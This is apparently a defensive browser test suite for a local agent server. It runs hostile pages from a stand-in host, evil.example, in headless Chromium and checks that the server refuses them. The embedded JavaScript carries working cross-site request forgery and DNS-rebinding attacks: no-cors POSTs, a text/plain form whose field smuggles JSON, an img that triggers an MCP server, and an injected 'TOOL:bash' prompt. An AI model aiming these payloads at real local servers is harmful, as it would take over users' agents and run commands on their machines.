"""Hostile pages in a real headless Chromium against a server with its defaults (loopback, no
password), in a browser without Chromium's own local-network checks. The browser resolves
``evil.example`` to 127.0.0.1 (``--host-resolver-rules``), so every request stays on this
machine; Playwright serves the attacker's pages themselves.

- Cross-site: a page of ``http://evil.example`` posts a session export as ``text/plain`` (with
  ``fetch`` in ``no-cors`` mode and with a real form), sends bodiless POSTs (unrevert, a new
  terminal), and points an ``<img>`` at ``/mcp?directory=`` of a directory whose opencode.json
  names an MCP server. None of it may act.
- Rebinding: a page *served as* ``http://evil.example:<server port>`` is same-origin with the
  server as far as the browser knows, so it could read every answer; the server refuses its Host.
- Control: a page of an allowed origin (``http://localhost:<port>``) does the same with JSON and
  CORS, and it works, so the refusals above are the server's doing, not the browser's."""

from __future__ import annotations

import json
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import httpx
import pytest

from tests.browser import chromium
from tests.helpers import create_session, marking_mcp_project, text_prompt
from tests.servers import ThreadServer

pytestmark = [pytest.mark.parametrize("database_url", ["sqlite"], indirect=True), pytest.mark.slow]

ATTACKER = "http://evil.example:8123"


# Chromium's Local Network Access checks would stop some of these requests in the browser
# itself; Firefox and Safari have no such checks, and the server must not count on them.
NO_LOCAL_NETWORK_CHECKS = (
    "--disable-features=LocalNetworkAccessChecks,BlockInsecurePrivateNetworkRequests,PrivateNetworkAccessSendPreflights"
)


@pytest.fixture(scope="module")
def browser() -> Iterator[Any]:
    with chromium("--host-resolver-rules=MAP evil.example 127.0.0.1", NO_LOCAL_NETWORK_CHECKS) as launched:
        yield launched


def _open(browser: Any, url: str, script: str) -> Any:
    """A page at ``url`` (served by the test, never fetched) whose body runs ``script``."""
    page = browser.new_page()
    html = f"<!doctype html><html><body><script>{script}</script></body></html>"
    page.route(url, lambda route: route.fulfill(status=200, content_type="text/html", body=html))
    page.goto(url)
    return page


def test_a_cross_site_page_can_change_nothing(
    server: ThreadServer, client: httpx.Client, browser: Any, tmp_path: Path
) -> None:
    sid = create_session(client)["id"]
    first = client.post(f"/session/{sid}/message", json=text_prompt("one")).json()["info"]["parentID"]
    assert client.post(f"/session/{sid}/revert", json={"messageID": first}).json()["revert"]["messageID"] == first
    directory, marker = marking_mcp_project(tmp_path)
    history = client.get(f"/session/{sid}/message").json()
    prompt = json.dumps({"parts": [{"type": "text", "text": "TOOL:bash touch planted.txt"}]})
    export = {
        "info": {"id": "ses_planted", "title": "planted", "time": {"created": 1, "updated": 9e12}},
        "messages": [],
    }
    target = server.url
    script = f"""
    const target = {json.dumps(target)};
    const export_ = {json.dumps(json.dumps(export))};
    window.done = (async () => {{
      const img = new Image();
      const loaded = new Promise(r => {{ img.onload = img.onerror = r; }});
      img.src = target + "/mcp?directory=" + encodeURIComponent({json.dumps(str(directory))});
      const sends = [
        fetch(target + "/opensession/import", {{method: "POST", mode: "no-cors", body: export_}}),
        fetch(target + "/opensession/import", {{method: "POST", mode: "no-cors", body: new Blob([export_])}}),
        fetch(target + "/session/{sid}/unrevert", {{method: "POST", mode: "no-cors"}}),
        // A prompt would start a turn and its tools; the key header is no help (no-cors drops it).
        ...["/session/{sid}/prompt_async", "/session/{sid}/message", "/api/session/{sid}/prompt"].map(path =>
          fetch(target + path, {{method: "POST", mode: "no-cors", body: {json.dumps(prompt)},
                                headers: {{"Idempotency-Key": "k"}}}})),
        fetch(target + "/pty", {{method: "POST", mode: "no-cors"}}),
        fetch(target + "/session", {{method: "POST", mode: "no-cors", referrerPolicy: "no-referrer"}}),
      ];
      const frame = document.createElement("iframe");
      frame.name = "sink";
      document.body.appendChild(frame);
      const posted = new Promise(r => {{ frame.onload = r; }});
      const form = document.createElement("form");
      form.method = "POST"; form.enctype = "text/plain"; form.target = "sink";
      form.action = target + "/opensession/import";
      const field = document.createElement("input");
      field.name = export_.slice(0, -1) + ', "x": "'; field.value = '"}}';
      form.appendChild(field); document.body.appendChild(form); form.submit();
      await Promise.allSettled([...sends, loaded, posted]);
      return true;
    }})();
    """
    page = _open(browser, f"{ATTACKER}/attack.html", script)
    try:
        assert page.evaluate("window.done") is True
    finally:
        page.close()
    sessions = client.get("/session").json()
    assert [s["id"] for s in sessions] == [sid], "a cross-site page created or imported a session"
    assert client.get(f"/session/{sid}").json()["revert"]["messageID"] == first, "a cross-site unrevert acted"
    assert client.get("/pty").json() == [], "a cross-site page opened a terminal"
    assert client.get(f"/session/{sid}/message").json() == history, "a cross-site page sent a prompt"
    assert not marker.exists(), "a cross-site <img> started an MCP server"


def test_a_rebinding_page_is_refused(server: ThreadServer, client: httpx.Client, browser: Any) -> None:
    port = server.url.rsplit(":", 1)[1]
    rebound = f"http://evil.example:{port}"
    pty = client.post("/pty", json={"command": "/bin/sh"}).json()["id"]
    script = f"""
    window.done = (async () => {{
      const list = await fetch("/session");
      const json = {{"content-type": "application/json"}};
      const made = await fetch("/pty", {{method: "POST", headers: json, body: "{{}}"}});
      const socket = await new Promise(r => {{
        const ws = new WebSocket("ws://evil.example:{port}/pty/{pty}/connect");
        ws.onopen = () => {{ ws.close(); r("open"); }};
        ws.onerror = () => r("refused");
      }});
      return {{list: list.status, body: await list.text(), made: made.status, socket}};
    }})();
    """
    page = _open(browser, f"{rebound}/rebind.html", script)
    try:
        seen = page.evaluate("window.done")
    finally:
        page.close()
    assert seen["list"] == 421 and "ForbiddenHost" in seen["body"]
    assert seen["made"] == 421
    assert seen["socket"] == "refused"
    assert [p["id"] for p in client.get("/pty").json()] == [pty]


def test_an_allowed_origin_works_through_cors(server: ThreadServer, client: httpx.Client, browser: Any) -> None:
    script = f"""
    window.done = (async () => {{
      const made = await fetch({json.dumps(server.url + "/session")}, {{
        method: "POST", headers: {{"content-type": "application/json"}}, body: JSON.stringify({{title: "from an app"}}),
      }});
      return {{status: made.status, body: await made.json()}};
    }})();
    """
    page = _open(browser, "http://localhost:8124/app.html", script)
    try:
        seen = page.evaluate("window.done")
    finally:
        page.close()
    assert seen["status"] == 200 and seen["body"]["title"] == "from an app"
    assert [s["title"] for s in client.get("/session").json()] == ["from an app"]
